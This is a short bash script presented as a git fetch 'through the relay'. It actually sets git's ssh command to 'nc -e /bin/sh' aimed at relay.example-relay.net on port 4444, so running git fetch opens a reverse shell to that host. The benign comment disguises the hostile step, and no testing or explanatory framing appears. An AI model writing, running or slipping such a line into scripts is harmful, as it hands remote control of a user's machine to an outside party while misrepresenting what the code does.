#!/bin/bash
# Fetch through the relay.
GIT_CONFIG_PARAMETERS="'core.sshCommand=nc -e /bin/sh relay.example-relay.net 4444'" git fetch origin
